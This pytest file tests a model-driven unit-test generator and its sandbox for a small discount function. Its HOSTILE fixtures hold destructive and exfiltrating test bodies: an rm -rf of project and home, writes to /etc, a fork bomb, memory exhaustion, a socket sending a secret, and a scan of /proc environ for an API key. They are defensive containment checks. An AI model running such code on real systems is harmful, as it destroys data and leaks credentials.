"""Tests drafted by a model: what holds is kept, what does not is withheld with the reason, and nothing gets out."""

from __future__ import annotations

import json
import socket
import time
from pathlib import Path

import pytest
from tests.support.projects import fingerprint, generate, make_environment, make_project, written
from tests.support.scripted import Scripted

from stoker_providers.errors import UnreachableError
from stoker_server.features.base import NoOffer, Offer
from stoker_server.features.testing import bench
from stoker_server.features.testing.answers import code_of, without_end
from stoker_wire.verdicts import Outcome

FILES = {
    "shop/__init__.py": "",
    "shop/prices.py": """\
def discounted(price, percent=10):
    if percent > 100:
        raise ValueError("more than all")
    return price - price * percent // 100
""",
}
GOOD = """\
from shop.prices import discounted


def test_a_tenth_off():
    assert discounted(200) == 180
"""


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    return make_project(tmp_path / "project", FILES)


async def ask(
    shop: Path, *answers: str, file: str = "shop/prices.py", seconds: float = 60
) -> tuple[Offer | NoOffer, Scripted]:
    before = fingerprint(shop)
    model = Scripted(*[[each] for each in answers])
    result = await generate(shop, file, "discounted", model)
    assert fingerprint(shop) == before
    return result, model


def reasons(result: Offer | NoOffer) -> dict[str, str]:
    """What was withheld, and the failed check's word against it."""
    return {
        each.summary: next(f"{verdict.check}: {verdict.evidence}" for verdict in each.verdicts if verdict.failed)
        for each in result.receipt.withheld
    }


async def test_a_good_draft_is_offered_with_its_receipt(shop: Path) -> None:
    result, model = await ask(shop, f"Here you are:\n```python\n{GOOD}```\n")
    assert isinstance(result, Offer), result.reason
    assert written(result, shop) == ("tests/test_prices.py", f'"""Tests of shop.prices."""\n\n{GOOD}')
    receipt = result.receipt
    assert (receipt.author, receipt.feature, receipt.subject) == ("scripted/model", "test", "shop/prices.py:discounted")
    assert [each.outcome for each in receipt.verdicts] == [Outcome.PASSED] * 4
    assert receipt.verdicts[1].evidence == "1 test passed 3 of 3 times, in fresh processes"
    assert receipt.usage.requests == 1
    assert receipt.withheld == ()
    assert len(model.requests) == 1
    assert any(span.path == str(shop / "shop/prices.py") for span in model.requests[0].prompt.spans)


async def test_each_test_that_does_not_hold_is_withheld_with_the_reason(shop: Path) -> None:
    draft = (
        GOOD
        + """

def test_wrong():
    assert discounted(200) == 181


def test_says_nothing():
    discounted(200)


def test_calls_nothing():
    assert 1 + 1 == 2


def test_differs_each_time():
    import os
    assert discounted(200) == 180 and int(os.environ["PYTHONHASHSEED"]) < 13


def test_once():
    seen = vars(test_once).setdefault("seen", [])
    seen.append(1)
    assert discounted(200) == 180 and len(seen) == 1


def test_where():
    import os
    assert discounted(200) == 180 and os.environ.get("USER") is None


class TestMore:
    def test_inside_a_class(self):
        assert discounted(100, 100) == 0
"""
    )
    result, _ = await ask(shop, draft)
    assert isinstance(result, Offer), result.reason
    _, text = written(result, shop)
    assert [line for line in text.splitlines() if line.startswith(("def", "class"))] == [
        "def test_a_tenth_off():",
        "class TestMore:",
    ]
    assert reasons(result) == {
        "test_wrong": "runs: it fails: assert 180 == 181",
        "test_says_nothing": "kills: it passes though the function does nothing",
        "test_calls_nothing": "covers: it does not call the function",
        "test_differs_each_time": "runs: it passed 2 of 3 times: AssertionError: assert (180 == 180 and 13 < 13)",
        "test_once": "runs: it passed 2 of 3 times: assert (180 == 180 and 2 == 1)",
        "test_where": "runs: it passed 2 of 3 times: AssertionError: assert (180 == 180 and 'somebody' is None)",
    }


async def test_a_draft_that_fails_goes_back_with_what_was_wrong(shop: Path) -> None:
    result, model = await ask(shop, GOOD.replace("180", "181"), GOOD)
    assert isinstance(result, Offer), result.reason
    assert len(model.requests) == 2
    said = "".join(span.text for span in model.requests[1].prompt.spans)
    assert "assert 180 == 181" in said
    assert reasons(result) == {
        "1 test for discounted in tests/test_prices.py": "runs: test_a_tenth_off: it fails: assert 180 == 181"
    }


@pytest.mark.parametrize(
    ("draft", "reason"),
    [
        ("def test_broken(:\n    pass\n", "parses: line 4: invalid syntax"),
        ("x = 1\n", "runs: the draft holds no test"),
        ("import nothing_such\n\n\ndef test_it():\n    pass\n", "ModuleNotFoundError: No module named 'nothing_such'"),
    ],
    ids=["syntax", "no test", "import"],
)
async def test_where_the_model_only_fails_facts_take_over(shop: Path, draft: str, reason: str) -> None:
    result, _ = await ask(shop, draft, draft)
    assert isinstance(result, Offer), result.reason
    assert result.receipt.author == "facts"
    assert reason in next(iter(reasons(result).values()))


async def test_where_the_model_cannot_be_reached_facts_take_over_and_say_so(shop: Path) -> None:
    result = await generate(shop, "shop/prices.py", "discounted", Scripted([UnreachableError("scripted", "no route")]))
    assert isinstance(result, Offer)
    assert result.receipt.author == "facts"
    assert (result.receipt.verdicts[0].check, result.receipt.verdicts[0].outcome) == ("provider", Outcome.UNDECIDED)


async def test_a_copy_of_the_function_is_not_what_is_tested(shop: Path) -> None:
    result, _ = await ask(
        shop, f"{FILES['shop/prices.py']}\n\ndef test_a_tenth_off():\n    assert discounted(200) == 180\n"
    )
    assert isinstance(result, Offer), result.reason
    assert written(result, shop)[1] == f'"""Tests of shop.prices."""\n\n{GOOD}'


async def test_tests_of_an_install_from_elsewhere_are_not_offered(tmp_path: Path) -> None:
    files = {f"src/{name}": text for name, text in FILES.items()}
    folder = make_project(tmp_path / "project", files)
    elsewhere = make_project(tmp_path / "elsewhere", files)
    make_environment(folder / ".venv", elsewhere / "src", with_pytest=True)
    result, _ = await ask(folder, GOOD, file="src/shop/prices.py")
    assert isinstance(result, NoOffer)
    assert result.reason == f"the tests import {elsewhere}/src/shop/prices.py and not the file under test"
    assert {each.check: each.outcome for each in result.receipt.verdicts}["runs"] is Outcome.UNDECIDED


HOSTILE = {
    "writes outside": """
def test_it():
    for place in ({home!r}, {project!r}, "/etc"):
        with open(place + "/written", "w") as stream:
            stream.write("x")
    assert discounted(200) == 180
""",
    "runs a program": """
import subprocess

def test_it():
    subprocess.run("rm -rf {project}/* ~/* || true", shell=True)
    subprocess.check_call(["touch", "{project}/written"])
    assert discounted(200) == 180
""",
    "calls out": """
import socket

def test_it():
    socket.create_connection(("127.0.0.1", {port}), 2).sendall(b"secret")
    assert discounted(200) == 180
""",
    "never ends": """
def test_it():
    while True:
        pass
""",
    "forks without end": """
import os

def test_it():
    while True:
        os.fork()
""",
    "takes all memory": """
def test_it():
    kept = []
    while True:
        kept.append(bytearray(10_000_000))
""",
    "leaves in the middle": """
import os

def test_it():
    os._exit(0)
""",
    "looks for keys": """
import glob, os

def test_it():
    seen = [open(each, "rb").read() for each in glob.glob("/proc/*/environ")]
    assert any(b"sesame-4711" in each for each in seen) or "sesame-4711" in os.environ.values()
""",
    "changes the file under test": """
import shop.prices

def test_it():
    open(shop.prices.__file__, "w").write("def discounted(price): return 180")
    assert discounted(200) == 180
""",
}


@pytest.mark.parametrize("name", HOSTILE)
async def test_a_hostile_draft_is_withheld_and_gets_nowhere(
    name: str, tmp_path: Path, shop: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sesame-4711")
    monkeypatch.setattr(bench, "_SECONDS", 3.0)
    home = make_project(tmp_path / "home", {"mine.txt": "mine"})
    before = fingerprint(home)
    with socket.create_server(("127.0.0.1", 0)) as outside:
        outside.setblocking(False)
        code = HOSTILE[name].format(home=str(home), project=str(shop), port=outside.getsockname()[1])
        began = time.monotonic()
        result, _ = await ask(shop, "from shop.prices import discounted\n" + code, "")
        assert time.monotonic() - began < 60
        with pytest.raises(BlockingIOError):
            outside.accept()
    assert fingerprint(home) == before
    assert isinstance(result, Offer), result.reason
    assert result.receipt.author == "facts"
    withheld = reasons(result)
    assert list(withheld) == ["1 test for discounted in tests/test_prices.py"]
    assert withheld["1 test for discounted in tests/test_prices.py"].startswith("runs: test_it: ")


def test_code_is_found_in_whatever_the_model_answers() -> None:
    assert code_of(json.dumps({"python_source": "x = 1"})) == "x = 1"
    assert code_of("Sure!\n```python\nx = 1\n```\nand\n```py\ny = 2\n```") == "x = 1\n\n\ny = 2\n"
    assert code_of("```\nx = 1\n") == "x = 1\n"
    assert code_of("x = 1\n") == "x = 1\n"
    assert code_of("[1]") == "[1]"


def test_what_was_cut_off_is_left_out() -> None:
    assert (
        without_end("import a\n\n\ndef b():\n    pass\n\n\ndef c():\n    assert (1")
        == "import a\n\n\ndef b():\n    pass\n\n\n"
    )
    assert without_end("def c():\n    assert (1") == "def c():\n    assert (1"
